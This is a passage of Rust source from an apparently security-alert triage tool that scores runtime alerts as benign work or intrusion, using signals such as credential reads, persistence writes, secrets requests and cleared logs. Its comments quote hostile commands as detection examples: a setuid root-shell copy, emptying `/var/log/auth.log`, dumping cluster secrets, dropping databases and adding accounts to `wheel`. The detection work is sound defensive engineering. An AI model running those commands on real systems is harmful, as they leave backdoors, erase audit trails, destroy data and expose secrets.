        // process tree, and a scheduler's job with its forgeries closed.
        let work = unattended_work(r, seen, reached_outside);
        // A workload's connections inside the site are its work (a controller calling the
        // API server, a sidecar its database), as for a job; its credential reads count in
        // full: a pod's own entrypoint reading the service account token and calling the
        // API is how a pod created by an intruder works.
        let job = scheduled_job(ev);
        let inside_work = job || work.workload.is_some();
        let launcher = job_launcher(ev).or_else(|| {
            if !reached_outside {
                work.launcher(lang)
            } else {
                None
            }
        });
        // Except a connection to another host's remote-administration service (telnet, SMB,
        // RDP, WinRM, a router's management port): no workload's or job's work takes
        // another host over (the blind holdout23: a camera classifier's container, started
        // as every morning, also connecting to the site router's management port).
        let remote_admin = |c: &&Context| {
            records
                .get(c.act.index)
                .is_some_and(|r| crate::evidence::remote_admin_port(&r.event).is_some())
        };
        let outbound = ctx
            .iter()
            .filter(counts)
            .filter(|c| !inside_work || c.act.outside || remote_admin(c))
            .find(|c| matches!(c.act.activity, Activity::Outbound(..)));
        let net_stdio = ctx
            .iter()
            .find(|c| matches!(c.act.activity, Activity::NetworkStdio(_)));
        let creds = ctx
            .iter()
            .filter(counts)
            .filter(|_| !job || reached_outside)
            .find(|c| matches!(c.act.activity, Activity::CredentialRead(..)));
        let maintenance = ctx
            .iter()
            .find(|c| matches!(c.act.activity, Activity::Maintenance(_)));
        // A cron entry, a unit, `authorized_keys` or a shell start-up file written in the
        // session by a program no catalogue entry explains as its own writer.
        // The alert's own process writing its target in several steps (a temporary file,
        // then a rename: `crontab -u app`) is the act the rule already flags, not more.
        let own_pid = crate::input::int(ev, "proc.pid");
        let persisted = ctx
            .iter()
            .filter(counts)
            .filter(|c| {
                own_pid.is_none()
                    || records
                        .get(c.act.index)
                        .and_then(|r| crate::input::int(&r.event, "proc.pid"))
                        != own_pid
            })
            .find(|c| matches!(c.act.activity, Activity::PersistenceWrite(..)));
        // A job a scheduler started after somebody wrote a scheduler entry on this host or
        // container: "nobody entered" does not hold for the session that scheduled it.
        let scheduled_here = if job {
            sessions.schedule_written_before(records, at)
        } else {
            None
        };

        // The catalogue: never with a download or a network stdin in the session. An act
        // that writes where intruders persist (a key, a cron entry, a unit) is explained
        // only by the agent itself writing it: anything run below an agent (a compromised
        // master's `cmd.run`, a hook's `tee`) is not the agent's own managed file.
        let writes_persistence = crate::evidence::writes_target(ev)
            && target(ev).is_some_and(|(_, t)| crate::evidence::persists(&t));
        // Nor does an entry explain a read of credential material (a web server's image
        // helper reading `/etc/shadow` through a path that climbs out of the uploads) unless
        // the entry says its work reads credentials (a backup agent's `tar`) or the program
        // reads it by design (`useradd` the password database), nor any entry a program hidden in a dot-directory
        // (`/var/lib/vector/.bin/vector` is not the packaged agent), nor an agent's
        // connection to an address outside the site: the catalogue knows the agent, not
        // where it was told to send (an intruder changes a sink's address).
        let reads_credentials = !crate::evidence::writes_target(ev)
            && target(ev).is_some_and(|(_, t)| {
                crate::evidence::is_credential_material(&t)
                    && !crate::evidence::reads_by_design(&proc_name, &t)
            });
        let hidden_exe = text(ev, "proc.exepath").is_some_and(|p| p.contains("/."));
        // A setuid or setgid bit given to a shell or an interpreter, by name or as a copy
        // its session made (`cp /bin/bash /opt/x/.helper; chmod 4755 /opt/x/.helper`): a
        // root shell left for whoever comes back. A package's own setuid helpers are
        // programs of their own; no agent's work explains this one (the blind holdout23: a
        // tampered package's maintainer script, anchored as the package manager's work).
        let setid_shell = sessions.gives_shell_setid(records, at);
        // Any setuid or setgid bit given in the session (a shared directory's group bit is
        // none, see `evidence::attack_step`): only an entry that says its work sets them
        // (`allows: [setid]`, the package managers installing their own setuid helpers)
        // explains it (session 24, the blind holdout33: a configuration run's state also
        // giving `find` the setuid bit kept the configuration agent's anchor).
        // A closure: weighed only when an entry matched and does not allow it.
        let setid_step = || {
            let is_setid = |st: crate::evidence::Step| st == crate::evidence::Step::SetId;
            crate::evidence::attack_step(ev).is_some_and(|(st, _)| is_setid(st))
                || ctx
                    .iter()
                    .any(|c| matches!(&c.act.activity, Activity::Step(st, _) if is_setid(*st)))
        };
        let sends_outside = matches!(
            text(ev, "evt.type").as_deref(),
            Some("connect" | "sendto" | "sendmsg")
        ) && crate::evidence::server_ip(ev)
            .is_some_and(|ip| !crate::evidence::is_inside(&ip));
        // A job that asks the orchestrator for its secrets or searches for keys collects
        // what an intruder comes for: no routine job's quietness excuses it (an intruder's
        // CronJob dumping every secret of the cluster is as quiet as a restart job).
        // A closure: weighed only where an anchor is at stake (a launcher, a catalogue entry).
        let collects_secrets = || {
            ctx.iter().any(|c| {
                matches!(
                    &c.act.activity,
                    Activity::Step(
                        crate::evidence::Step::SecretsRequest | crate::evidence::Step::KeySearch,
                        _
                    )
                )
            }) || crate::evidence::attack_step(ev).is_some_and(|(st, _)| {
                matches!(
                    st,
                    crate::evidence::Step::SecretsRequest | crate::evidence::Step::KeySearch
                )
            }) || text(ev, "proc.cmdline").is_some_and(|cmd| {
                crate::evidence::cmdline_asks_for_secrets(&cmd)
                    || crate::evidence::cmdline_fetches_secrets(&cmd)
            })
        };
        // A command line that drops or flushes a whole data store, the alert's own or one
        // in its session (`DROP DATABASE`, `FLUSHALL`): no catalogue entry, quiet job or
        // recurrence explains it, whatever the program (holdout13: a quiet session's
        // database client dropping the database). A person's sessions are judged by the
        // strict test, where the step counts as well.
        let destroys_store = text(ev, "proc.cmdline")
            .is_some_and(|c| crate::evidence::cmdline_destroys_store(&c))
            || ctx.iter().any(|c| {
                records.get(c.act.index).is_some_and(|r| {
                    text(&r.event, "proc.cmdline")
                        .is_some_and(|c| crate::evidence::cmdline_destroys_store(&c))
                })
            });
        // Nor does an entry explain work whose session asks the orchestrator for its secrets
        // or searches for keys (`collects_secrets`): the catalogue knows the agent, not an
        // intruder's `kubectl get secrets` beside it (tests/adversary.rs `secrets_request`).
        let cat = if downloaded
            || net_stdio.is_some()
            || hidden_exe
            || sends_outside
            || destroys_store
            || setid_shell
        {
            None
        } else {
            match found {
                Some(f) => f.clone(),
                None => self.catalogue.find(ev),
            }
            .filter(|m| m.level == 0 || !writes_persistence)
            .filter(|m| m.entry.allows_signal("setid") || !setid_step())
            .filter(|m| !reads_credentials || m.entry.allows_signal("session_credentials"))
            .filter(|_| !collects_secrets())
        };
        let allows = |s: &str| cat.as_ref().is_some_and(|m| m.entry.allows_signal(s));
        if let Some(m) = &cat {
            let (who, who_ja) = if m.level == 0 {
                (proc_name.clone(), proc_name.clone())
            } else {
                (
                    format!("{proc_name} (ancestor {} = {})", m.level, m.actor),
                    format!("{proc_name}（{} 代前の親 {}）", m.level, m.actor),
                )
            };
            let desc = match lang {
                Lang::En => m.entry.description_en.clone(),
                Lang::Ja => m.entry.description_ja.clone(),
            };
            out.push(hit(
                "known_benign",
                m.entry.weight,
                vec![
                    ("who", if lang == Lang::Ja { who_ja } else { who }),
                    ("entry", m.entry.name.clone()),
                    ("desc", desc),
                    ("actor", m.actor.clone()),
                ],
            ));
        }
        // The process's own lineage.
        let dropped = a.dropped_exe.as_ref().filter(|(_, p)| {
            downloaded
                || !(allows("dropped_binary")
                    || self
                        .catalogue
                        .built(p, sessions.writer(at, p), a.dropped_parent.as_deref())
                        .is_some())
        });
        // An executable in a drop directory that the catalogue explains as built (a
        // compiler of the same session wrote it, or a build tool runs its own temporary
        // output) is the entry's known-benign activity, not only the absence of a dropped
        // binary: the entry's weight counts, anchored like any entry (unattended).
        if cat.is_none()
            && dropped.is_none()
            && !downloaded
            && !destroys_store
            && !collects_secrets()
            && net_stdio.is_none()
            && !hidden_exe
            && !sends_outside
        {
            if let Some((entry, by)) = a.dropped_exe.as_ref().and_then(|(_, p)| {
                let w = sessions.writer(at, p);
                self.catalogue
                    .built(p, w, a.dropped_parent.as_deref())
                    .map(|e| (e, w.or(a.dropped_parent.as_deref()).unwrap_or("?")))
            }) {
                let (who, who_ja) = (
                    format!("{proc_name} (built by {by})"),
                    format!("{proc_name}（{by} が生成）"),
                );
                let desc = match lang {
                    Lang::En => entry.description_en.clone(),
                    Lang::Ja => entry.description_ja.clone(),
                };
                out.push(hit(
                    "known_benign",
                    entry.weight,
                    vec![
                        ("who", if lang == Lang::Ja { who_ja } else { who }),
                        ("entry", entry.name.clone()),
                        ("desc", desc),
                        ("actor", by.to_string()),
                    ],
                ));
            }
        }
        if let Some((lvl, path)) = dropped {
            let whose = match (lang, *lvl) {
                (Lang::En, 0) => "the process itself".to_string(),
                (Lang::En, l) => format!("its ancestor {l} levels up"),
                (Lang::Ja, 0) => "プロセス自身".to_string(),
                (Lang::Ja, l) => format!("{l} 代前の親プロセス"),
            };
            out.push(hit(
                "dropped_binary",
                1.0,
                vec![("whose", whose), ("path", path.clone())],
            ));
        }
        let service_shell = a
            .service_shell
            .as_ref()
            .filter(|_| !allows("service_shell"));
        if let Some((server, shell)) = service_shell {
            // A shell that only ran one plain command of the system's own (a web
            // application's mail or image conversion) is weaker evidence than one running
            // a download, a network tool or an interactive shell.
            match plain_service_command(ev) {
                Some(cmd) => out.push(hit(
                    "service_shell_command",
                    1.0,
                    vec![
                        ("server", server.clone()),
                        ("shell", shell.clone()),
                        ("cmd", cmd),
                    ],
                )),
                None => out.push(hit(
                    "service_shell",
                    1.0,
                    vec![("server", server.clone()), ("shell", shell.clone())],
                )),
            }
        }
        if let Some(what) = &a.network_stdio {
            let what = match lang {
                Lang::En => what.clone(),
                Lang::Ja => format!("標準入出力がネットワークソケットです（{what}）"),
            };
            out.push(hit("network_stdio", 1.0, vec![("what", what)]));
        }
        if let (true, Some(user)) = (a.tty, &a.system_account) {
            out.push(hit(
                "system_account_terminal",
                1.0,
                vec![("user", user.clone())],
            ));
        }
        // A login from outside the site: the per-session login daemon above this process
        // accepted its connection from a public address (an admin's stolen key or password
        // is used from anywhere; a site's people come in through its own networks).
        if a.tty {
            if let Some(addr) = sessions.entered_from_outside(r) {
                out.push(hit("login_from_outside", 1.0, vec![("addr", addr)]));
            }
        }
        // A step no routine work takes, anywhere in the alert's sessions (whole, the
        // alert's own act included): a reverse shell's connection, a staged script or
        // hidden file, a web shell written, a shell escape... (`Sessions::attack_trace`).
        // It vetoes whatever anchors the alert (a catalogue entry, a quiet job or person):
        // the blind holdout7 had a planted cron capture, a WP-CLI `eval-file /tmp/…`, a
        // mailer writing a `.php` into the web root and a monitoring plugin's `bash -i`
        // connecting out all called likely false positive without it.
        // Also a step taken in a session the alert's process started below it (a login
        // page's password check, then its terminal's session granting `wheel`).
        let trace = sessions.attack_trace(records, at).or_else(|| {
            sessions.below_trace(records, at).map(|(st, what)| {
                let note = match lang {
                    Lang::En => "in a session it started",
                    Lang::Ja => "このプロセスが開始したセッション内",
                };
                (st, format!("{what} ({note})"))
            })
        });
        // A step no routine work takes is no job's quiet work either (`job_quiet`,
        // `job_recurs` below say "nothing in it toward an attack").
        let decisive_step = trace.is_some();
        if let Some((step, what)) = trace {
            let step = match lang {
                Lang::En => step.as_str(),
                Lang::Ja => step.as_str_ja(),
            };
            out.push(hit(
                "session_attack_step",
                1.0,
                vec![("step", step.to_string()), ("what", what)],
            ));
        }
        // A person at a terminal: a tty with a login or runtime exec entry, no service,
        // no service account, no network stdin, and nothing fetched, dropped or redirected
        // to the network in the session.
        let interactive = a.tty
            && (a.entry.is_some() || a.runtime.is_some())
            && a.service.is_none()
            && service_shell.is_none()
            && a.system_account.is_none()
            && a.network_stdio.is_none()
            && a.scheduler.is_none()
            && dropped.is_none()
            && !downloaded
            && exec_dropped.is_none()
            && net_stdio.is_none();
        // Another session of the same container that took a step toward an attack in the
        // window, for work nobody entered (the blind holdout8 had a controller's API call
        // anchored as a quiet job while an `exec` session in its pod fetched a tool from
        // outside). A person's own session is judged by what it did itself: an intruder's
        // session beside it does not make the person's typed commands suspect.
        // The same for the host's own units: a session init started, beside another that
        // init started within the window and took such a step (`Sessions::unit_trace`).
        if !interactive {
            let beside = [
                (
                    "container_attack_step",
                    sessions.container_trace(records, at),
                ),
                ("unit_attack_step", sessions.unit_trace(records, at)),
            ];
            for (id, found) in beside {
                if let Some((en, ja, what)) = found {
                    let step = match lang {
                        Lang::En => en,
                        Lang::Ja => ja,
                    };
                    out.push(hit(
                        id,
                        1.0,
                        vec![("step", step.to_string()), ("what", what)],
                    ));
                }
            }
        }
        if interactive {
            let mut how = Vec::new();
            match lang {
                Lang::En => how.push("a controlling terminal".to_string()),
                Lang::Ja => how.push("制御端末（tty）".to_string()),
            }
            if let Some(e) = &a.entry {
                how.push(match lang {
                    Lang::En => format!("entered through {e}"),
                    Lang::Ja => format!("{e} 経由のログイン"),
                });
            }
            if let Some(rt) = &a.runtime {
                how.push(match lang {
                    Lang::En => format!("a shell entered through the container runtime ({rt})"),
                    Lang::Ja => format!("コンテナランタイム（{rt}）経由で入ったシェル"),
                });
            }
            let sep = if lang == Lang::Ja { "、" } else { ", " };
            out.push(hit(
                "interactive_session",
                1.0,
                vec![("how", how.join(sep))],
            ));
        }
        if let Some((t, s)) = target_sensitivity(ev) {
            match s {
                Sensitivity::Low => out.push(hit("target_housekeeping", 1.0, vec![("target", t)])),
                // An agent that reads every file by design (a backup agent) is not weighed
                // down by what it reads, when its catalogue entry says so.
                Sensitivity::High if allows("target_sensitive") => {}
                Sensitivity::High => out.push(hit("target_sensitive", 1.0, vec![("target", t)])),
                Sensitivity::Persistence => {
                    out.push(hit("target_persistence", 1.0, vec![("target", t)]))
                }
                Sensitivity::Medium => {}
            }
        }
        // Session context.
        let mut kinds: Vec<&str> = Vec::new();
        if let Some(c) = download {
            if let Activity::Download(p, cmd) | Activity::FetchToStdout(p, cmd) = &c.act.activity {
                kinds.push("download");
                out.push(hit(
                    "session_download",
                    1.0,
                    vec![
                        ("when", when(c.before)),
                        ("cmd", cmd.clone()),
                        ("prog", p.clone()),
                    ],
                ));
            }
        }
        if let Some(c) = exec_dropped {
            if let Activity::ExecDropped(p) = &c.act.activity {
                kinds.push("exec");
                out.push(hit(
                    "session_exec_dropped",
                    1.0,
                    vec![("path", p.clone()), ("when", when(c.before))],
                ));
            }
        }
        if let Some(c) = outbound {
            if let Activity::Outbound(addr, prog) = &c.act.activity {
                kinds.push("outbound");
                out.push(hit(
                    "session_outbound",
                    1.0,
                    vec![
                        ("addr", addr.clone()),
                        ("prog", prog.clone()),
                        ("when", when(c.before)),
                    ],
                ));
            }
        }
        if let Some(c) = net_stdio {
            if let Activity::NetworkStdio(addr) = &c.act.activity {
                kinds.push("network-stdio");
                out.push(hit(
                    "session_network_stdio",
                    1.0,
                    vec![("addr", addr.clone()), ("when", when(c.before))],
                ));
            }
        }
        if let Some(c) = creds {
            if let Activity::CredentialRead(p, _) = &c.act.activity {
                kinds.push("credentials");
                out.push(hit(
                    "session_credentials",
                    1.0,
                    vec![("path", p.clone()), ("when", when(c.before))],
                ));
            }
        }
        if let Some(c) = persisted {
            if let Activity::PersistenceWrite(p, w) = &c.act.activity {
                kinds.push("persistence");
                out.push(hit(
                    "session_persistence",
                    1.0,
                    vec![
                        ("path", p.clone()),
                        ("prog", w.clone()),
                        ("when", when(c.before)),
                    ],
                ));
            }
        }
        // Credentials read in the session (by the alert's own process, or excused as an
        // agent's work) while the session reached outside the site: a catalogue entry
        // explains an agent's reads and its contacts with the site's own servers, not keys
        // leaving for a public address (issue 11, helper adversary).
        if creds.is_none() {
            let read = match activity(ev, &|_| false) {
                Some(Activity::CredentialRead(p, _)) => Some(p),
                _ => ctx.iter().find_map(|c| match &c.act.activity {
                    Activity::CredentialRead(p, _) => Some(p.clone()),
                    _ => None,
                }),
            };
            let sent = ctx.iter().find_map(|c| match &c.act.activity {
                _ if !c.act.outside => None,
                Activity::Contact(dest, prog, _) | Activity::Outbound(dest, prog) => {
                    Some((dest.clone(), prog.clone()))
                }
                Activity::Download(prog, cmd) | Activity::FetchToStdout(prog, cmd) => {
                    Some((cmd.clone(), prog.clone()))
                }
                _ => None,
            });
            if let (Some(path), Some((addr, prog))) = (read, sent) {
                kinds.push("credentials");
                out.push(hit(
                    "credentials_sent_out",
                    1.0,
                    vec![("path", path), ("addr", addr), ("prog", prog)],
                ));
            }
        }
        // A server answering a client outside the site (its process or an ancestor accepted
        // the connection) that asks the cloud instance metadata service for the instance's
        // credentials, as the alert's own act or in its session: a client steered it there
        // (request forgery through a proxy, a relay or a URL fetcher). An SDK's or an agent's
        // own request answers nobody outside (the blind holdout17: a TURN relay's allocation
        // relayed to the metadata address was called a quiet workload's work).
        // The session's acts are classified already; only the alert's own is looked at here.
        let own = match activity(ev, &|_| false) {
            Some(Activity::Step(crate::evidence::Step::InstanceMetadata, addr)) => Some((at, addr)),
            _ => None,
        };
        let steered = own
            .into_iter()
            .chain(ctx.iter().filter_map(|c| match &c.act.activity {
                Activity::Step(crate::evidence::Step::InstanceMetadata, addr) => {
                    Some((c.act.index, addr.clone()))
                }
                _ => None,
            }))
            .find_map(|(i, addr)| {
                let rec = records.get(i)?;
                let client = sessions.served_outside(rec)?;
                let prog = text(&rec.event, "proc.name").unwrap_or_default();
                Some((addr, client, prog))
            });
        if let Some((addr, client, prog)) = steered {
            kinds.push("steered");
            out.push(hit(
                "server_steered",
                1.0,
                vec![("addr", addr), ("client", client), ("prog", prog)],
            ));
        }
        if let Some(p) = scheduled_here {
            kinds.push("scheduled");
            out.push(hit(
                "job_scheduled_here",
                1.0,
                vec![("path", p.to_string())],
            ));
        }
        let others = sessions.other_alerts(records, at, rule);
        if !others.is_empty() {
            kinds.push("alerts");
            let sep = if lang == Lang::Ja { "、" } else { ", " };
            let names: Vec<String> = others
                .iter()
                .take(3)
                .map(|(r, _)| format!("\"{r}\""))
                .collect();
            out.push(hit(
                "session_other_alerts",
                others.len().min(2) as f64,
                vec![("names", names.join(sep))],
            ));
        }
        if kinds.len() >= 2 {
            out.push(hit("attack_chain", 1.0, vec![("chain", kinds.join(" → "))]));
        }
        // The strict person test over the whole of the alert's sessions (see `person_clear`
        // below), computed once: an interactive session quell saw, with nothing in it
        // toward an attack.
        let trace_clear = interactive
            && kinds.is_empty()
            && sessions.seen(records, at)
            && sessions.person_trace(records, at).is_none();
        if kinds.is_empty() {
            if let Some(c) = maintenance {
                if let Activity::Maintenance(n) = &c.act.activity {
                    out.push(hit(
                        "session_maintenance",
                        if c.before { 1.0 } else { 0.5 },
                        vec![("name", n.clone()), ("when", when(c.before))],
                    ));
                }
            } else if trace_clear {
                // Only from a session quell saw as events (bare alerts say nothing of it),
                // and only when nothing in it, the alert's own act included, counts toward an
                // attack by the strict person test: "no other suspicious activity" is what the
                // signal says (the blind holdout29: a shell exec'd into a privileged pod
                // mounting a cgroup hierarchy and writing its release agent was called quiet).
                out.push(hit("session_quiet", 1.0, Vec::new()));
            }
        }
        // A job nobody entered (a scheduler's, init's or a CI runner's, no service in its
        // lineage), run by the system's own executable, whose session quell saw with
        // nothing in it toward an attack (issue 11: unattended by lineage shape, not by a
        // catalogue of names). A sensitive or persistence target read or written by a job
        // that also reached outside the site does not qualify (a cron job shipping
        // /etc/shadow out).
        let sensitive_target = matches!(
            target_sensitivity(ev),
            Some((_, Sensitivity::High | Sensitivity::Persistence))
        );
        // The workload's own init binary (the image's entrypoint, not written after the
        // container started) is its own program even outside the system's directories.
        let own_program =
            shipped_executable(ev) || work.workload.as_ref().is_some_and(|w| w.level == 0);
        // The alert's own act counts too: a job whose alerting act is itself a download, a
        // connection out of the site, a stream redirected to a socket, a dropped program, a
        // shell fed from the network or a persistence or schedule write is not quiet,
        // whatever its session held before (tests/adversary.rs: an attacker's move added to a
        // workload's session alerts on its own act). So is a job whose alerting act empties
        // a security record (an authentication or audit log, login records, the journal, a
        // shell history: `: > /var/log/auth.log` from a cron line): rotation renames those
        // and the catalogue names the rotators; nothing's quiet work empties them by hand
        // (holdout20: a cron line of a slot-accounting account emptying the authentication
        // log was anchored as the job's quiet work, kept from likely false positive only
        // by the target's weight).
        let clears_security_record = crate::evidence::empties_record_log(ev)
            .is_some_and(|p| crate::evidence::sensitivity(&p) == Sensitivity::High);
        // So is one whose own act puts an account into an administrators' group
        // (`useradd -G wheel`, `gpasswd -a u sudo`): a directory sync or provisioning job
        // creates and groups ordinary accounts; one granting sudo's group is doing what
        // its inputs were edited to make it do (the blind holdout21: a directory sync's
        // mapping edited to create an account in `wheel`, anchored as its recurring work).
        let grants_admin = crate::evidence::exec_grants_admin_group(ev).is_some();
        // And one whose session empties a security record beside its own work (a daily
        // script edited to also empty the authentication log: the blind holdout22): the
        // job's other alerts are no quieter than that act.
        let session_clears_record = ctx.iter().any(|c| {
            matches!(
                &c.act.activity,
                Activity::Step(crate::evidence::Step::LogCleared, _)
            )
        });
        // And one whose alerting program's own command line hands credential material to a
        // general-purpose reader inside it (a sandbox's or a shell's `-c` program: `bwrap
        // --bind / / sh -c 'cat …/key.pem'`): a job's signing or deploy tool consumes its
        // key itself; a reader nested in another program's command prints it (into the
        // job's log or wherever its output goes). The blind holdout28: a CI job edited to
        // read its signing key inside bwrap was anchored as the job's quiet work.
        let nested_credential_read = text(ev, "proc.cmdline")
            .is_some_and(|c| crate::evidence::command_reads_credentials(&c).is_some());
        let own_act_toward_attack = clears_security_record
            || grants_admin
            || setid_shell
            || session_clears_record
            || nested_credential_read
            || crate::evidence::activity(ev, &|_| false).is_some_and(|a| {
                matches!(
                    a,
                    Activity::Download(..)
                        | Activity::Outbound(..)
                        | Activity::NetworkStdio(..)
                        | Activity::ExecDropped(..)
                        | Activity::ShellFromStdin(..)
                        | Activity::PersistenceWrite(..)
                        | Activity::WroteSchedule(..)
                        | Activity::Contact(_, _, true)
                )
            });
        // A workload that asks both the orchestrator's API (with its service account) and
        // the cloud's instance metadata service (for the node's role) holds the keys of two
        // authorities: a controller talks to its API, an SDK to its cloud; one doing both is
        // not quiet by lineage alone, whatever its image (the blind holdout29: a tampered
        // operator release also fetching the node's credentials was anchored as its
        // workload's quiet work). Scheduler and CI jobs deploy with both by routine
        // (a registry login, then `kubectl apply`): only a workload's own process tree.
        // The alert's own event and those of its session's context window, each once.
        let session_events = || {
            std::iter::once(ev).chain(
                ctx.iter()
                    .filter_map(|c| records.get(c.act.index).map(|r| &r.event)),
            )
        };
        let own_tree = work.workload.is_some() && job_launcher(ev).is_none() && work.cron.is_none();
        // One pass over the session's steps for the workload tests below.
        let (mut metadata, mut api, mut entered_with_step) = (false, false, false);
        if own_tree {
            for e in session_events() {
                let Some((st, _)) = crate::evidence::attack_step(e) else {
                    continue;
                };
                metadata |= st == crate::evidence::Step::InstanceMetadata;
                api |= st == crate::evidence::Step::OrchestratorApi;
                entered_with_step |= text(e, "proc.pname")
                    .is_some_and(|p| crate::evidence::role(&p) == crate::evidence::Role::Runtime)
                    && crate::input::int(e, "proc.vpid").is_some_and(|v| v != 1);
            }
        }
        let two_authorities = metadata && api;
        // Nor is one whose container session shows a process exec'd into it (the runtime's
        // child other than the container's init) taking a step toward an attack: somebody
        // entered the workload (the blind holdout30: tcpdump exec'd into a PTP pod sniffing
        // the clinic's network, its packet socket anchored as the pod's own). Exec probes
        // take no such step.
        // A reader printing another process's environment in the session (see
        // `AnchorFacts::prints_environment`): no job's quiet work.
        let prints_environment = session_events().any(crate::evidence::prints_environment);
        let mut quiet_job = false;
        if let Some(l) = launcher.as_ref().filter(|_| {
            kinds.is_empty()
                && !own_act_toward_attack
                && !decisive_step
                && !two_authorities
                && !entered_with_step
                && !prints_environment
                && !collects_secrets()
                && !destroys_store
                && dropped.is_none()
                && a.network_stdio.is_none()
                && own_program
                && !(sensitive_target && reached_outside)
                // A job writing where intruders persist is not "the system's own program
                // doing its work" unless a catalogue entry says whose work it is.
                && !matches!(target_sensitivity(ev), Some((_, Sensitivity::Persistence)))
                && sessions.seen(records, at)
                // A workload whose process (or an ancestor) answers clients outside the
                // site does what its clients ask: its quiet is theirs, as for `job_recurs`.
                && (job_launcher(ev).is_some()
                    || work.cron.is_some()
                    || sessions.served_outside(r).is_none())
        }) {
            out.push(hit("job_quiet", 1.0, vec![("launcher", l.clone())]));
            // Only a scheduler's or a CI runner's job: a workload's entrypoint reading
            // the host's files (a hostPath mount) is no job's purpose.
            quiet_job =
                work.workload.is_none() || job_launcher(ev).is_some() || work.cron.is_some();
        }
        // A quiet job that only READS a sensitive file, with nothing in its session
        // reaching outside the site: reading it is the job's purpose (a backup archiving
        // /etc, an audit scanner checking shadow), not a step toward taking it away.
        if quiet_job && !reached_outside && reads_only(ev) {
            if let Some((t, Sensitivity::High)) = target_sensitivity(ev) {
                out.push(hit("job_reads_by_purpose", 1.0, vec![("target", t)]));
            }
        }
        // A person's quiet session (issue 11, helper personquiet): a person at a terminal
        // (tty with a login or runtime exec entry, no service, no system account, no
        // network stdin), running the system's own program, whose sessions quell saw from
        // their start, with nothing toward an attack anywhere in them, the alert's own act
        // included, by the strict test of `Sessions::person_trace` (a download, a program
        // or script brought in and run, a connection out, credential material read, a
        // setuid bit, an account or persistence change, a cleared security log, a search
        // for keys, a request for secrets...), no package installed, and the alert's own
        // target no persistence location.
        // The person test (interactive, nothing in the window) and, over the whole of the
        // sessions, nothing toward an attack by `Sessions::person_trace`'s strict test:
        // computed once, for `person_quiet` and for the `quiet_session` anchor.
        let person_clear = trace_clear && crate::evidence::empties_record_log(ev).is_none();
        if let Some(h) = self.person_quiet(ev, records, at, sessions, person_clear) {
            out.push(h);
        }
        let installed = ctx.iter().any(|c| {
            matches!(&c.act.activity, Activity::Maintenance(n) if crate::evidence::role(n) == crate::evidence::Role::PackageManager)
        });
        // Work a service manager started (a unit's or a timer's process tree: init, and no
        // terminal, login, runtime exec, service, scheduler or CI runner below it), quiet by
        // the same test as a scheduler's job, its session seen, and answering nobody outside
        // the site: a candidate for `job_recurs` (session 13). Init alone is no evidence
        // (`setsid cmd &` is re-parented to it), so `run_core` weighs it only when the
        // cluster shows the same act in two or more separate such sessions.
        let recurs = !out.iter().any(|h| h.id == "job_quiet")
            && kinds.is_empty()
            && !own_act_toward_attack
            && !decisive_step
            && !prints_environment
            && dropped.is_none()
            && a.network_stdio.is_none()
            && !reached_outside
            && shipped_executable(ev)
            && !matches!(target_sensitivity(ev), Some((_, Sensitivity::Persistence)))
            && crate::evidence::init_launcher(ev).is_some()
            && sessions.seen(records, at)
            && sessions.served_outside(r).is_none()
            && !collects_secrets()
            && !destroys_store;
        // Any write of the session but the alert's own event, by its own process too (a
        // configuration run's one worker applies every state).
        let session_persists = ctx
            .iter()
            .any(|c| c.act.index != at && matches!(c.act.activity, Activity::PersistenceWrite(..)));
        let clears_unexplained = ctx.iter().any(|c| {
            c.act.index != at
                && matches!(
                    &c.act.activity,
                    Activity::Step(crate::evidence::Step::LogCleared, _)
                )
                && records
                    .get(c.act.index)
                    .is_none_or(|r| self.catalogue.find(&r.event).is_none())
        });
        let facts = AnchorFacts {
            recurs,
            writes_persistence,
            session_persists,
            session_clears_record: clears_unexplained,
            prints_environment,
            sensitive_outside: sensitive_target && reached_outside,
            // A person's session anchors only when nothing in the whole of it counts toward
            // an attack by the strict test (tests/adversary.rs: a housekeeping removal in a
            // session that escaped from a program run through sudo, or read a workload's
            // environment, anchored on the window's activities alone).
            quiet: person_clear && !installed,
            unattended: (unattended(ev) && !work.cron_refuted) || work.workload.is_some(),
            // An act harmless whoever runs it (a terminal probe) anchors in a session
            // somebody entered (a terminal, a login) only when nothing in the whole of that
            // session, or of the sessions its ancestors started in, counts toward an attack
            // by the strict person test (`Sessions::person_trace`), as a person's quiet
            // session does: the probe is harmless, the session around it need not be
            // (tests/adversary.rs: a web user's REPL at a terminal writing a cron entry, a
            // unit or a shell start-up file, or reading a workload's environment, kept its
            // probes' anchor, and the persistence write itself, a child of the probe's
            // shell, matched the probe's entry). Work nobody entered keeps the anchor.
            harmless_act: cat
                .as_ref()
                .is_some_and(|m| m.entry.anchor_always && shipped_executable(ev))
                && (!(a.tty || a.entry.is_some()) || sessions.person_trace(records, at).is_none()),
        };
        (out, facts)
    }

    /// The `person_quiet` signal for the alert at `at`, when it holds (see `signals_for`).
    /// `quiet`: the person test of `signals_for` (interactive, nothing in the window, the
    /// session seen, nothing toward an attack in the whole of it by
    /// `Sessions::person_trace`).
    fn person_quiet(
        &self,
        ev: &FlatEvent,
        records: &[Record],
        at: usize,
        sessions: &Sessions,
        quiet: bool,
    ) -> Option<Hit> {
        // The alert's own act reaches an attack goal in one step: a persistence location
        // touched, or a sensitive target (authentication records, keys, history) read.
        let read = matches!(
            ev.get("evt.is_open_read"),
            Some(quell_rules::Value::Bool(true))
        );
        let persistence_target = match target_sensitivity(ev) {
            Some((_, Sensitivity::Persistence)) => true,
            Some((_, Sensitivity::High)) => read,
            _ => false,
        };
        let installed = sessions.context(records, at).iter().any(|c| {
            matches!(&c.act.activity, Activity::Maintenance(n) if crate::evidence::role(n) == crate::evidence::Role::PackageManager)
        });
        // A shell in a privileged container is root on the host: whatever it did, its
        // quiet is not evidence.
        let privileged = matches!(
            ev.get("container.privileged"),
            Some(quell_rules::Value::Bool(true))
        );
        let holds = quiet
            && !privileged
            && !installed
            && !persistence_target
            && shipped_executable(ev)
            && sessions.seen_whole(records, at);
        holds.then(|| hit("person_quiet", 1.0, Vec::new()))
    }

    fn report(
        &self,
        c: &Cluster,
        id: String,
        agg: Agg,
        alerts_verdict: Verdict,
        records: &[Record],
        weights: &Weights,
    ) -> ClusterReport {
        let lang = self.lang;
        let rule = &c.signature.rule;
        let n = agg.members.len().max(1);
        let anchor = if agg.anchors.iter().all(Option::is_some) {
            agg.anchors
                .first()
                .copied()
                .flatten()
                .map(|(sig, basis)| format!("{sig} ({basis})"))
        } else {
            None
        };
        let mut reasons: Vec<(Reason, Option<String>)> = Vec::new();
        let mut features: Features = Vec::new();
        for (sid, k, sum, max, vars) in agg.signals {
            // Signals toward "real" count if any alert shows them; toward "benign" only
